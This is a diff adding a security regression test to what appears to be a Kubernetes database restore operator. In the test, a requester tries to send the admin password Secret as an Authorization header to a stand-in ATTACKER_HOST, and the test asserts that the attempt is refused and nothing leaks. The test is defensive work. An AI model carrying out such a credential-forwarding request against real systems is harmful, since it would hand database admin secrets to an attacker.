@@ -260,3 +260,36 @@ def test_a_redirect_to_a_host_asking_for_a_cleartext_password_gets_no_password(v
     steps = {step["name"]: step["state"] for step in finished["status"]["steps"]}
     assert steps["Preflight"] == "Failed" and steps.get("ScaleDown") in (None, "Skipped"), steps
     assert ready_replicas(vault.cluster, vault.namespace) == before
+
+
+def test_a_verify_header_from_a_secret_goes_only_over_https_and_only_from_a_secret_that_opted_in(vault: Vault):
+    """The admin Secret as the accounts check's Authorization header: over http it is refused by the
+    API server; over https, the Secret has not opted in (a label only whoever may write Secrets sets),
+    so the restore fails in Preflight with every service running and nothing sent."""
+    grant_requester(vault)
+    vault.backup()
+    header = {"name": "vault-db-admin", "key": "password"}
+    over_http = vault.restore_request("verify-http", safetyBackup=False)
+    over_http["spec"]["verify"] |= {
+        "accountsUrl": f"http://{ATTACKER_HOST}:{ATTACKER_PORT}/",
+        "authHeaderSecretRef": header,
+    }
+    refused = create_as_requester(vault, over_http, check=False)
+    assert refused.returncode != 0 and "must then be https://" in refused.stderr
+    over_https = vault.restore_request("verify-https", safetyBackup=False)
+    over_https["spec"]["verify"] |= {
+        "accountsUrl": f"https://{ATTACKER_HOST}:{ATTACKER_PORT}/",
+        "authHeaderSecretRef": header,
+    }
+    before = ready_replicas(vault.cluster, vault.namespace)
+    with listener(ATTACKER_HOST, ATTACKER_PORT) as received:
+        create_as_requester(vault, over_https)
+        finished = vault.wait_finished("restorerequests", "verify-https")
+    failed = next(c for c in finished["status"]["conditions"] if c["type"] == "Failed")
+    assert failed["reason"] == "SecretNotOptedIn", vault.describe("restorerequests", "verify-https")
+    assert "walwarden.io/verify-header=true" in failed["message"]
+    assert received == []
+    steps = {step["name"]: step["state"] for step in finished["status"]["steps"]}
+    assert steps.get("ScaleDown") in (None, "Skipped"), steps
+    assert ready_replicas(vault.cluster, vault.namespace) == before
+    assert not [value for value in secret_values(vault) if value in readable_by_requester(vault, "verify-https")]
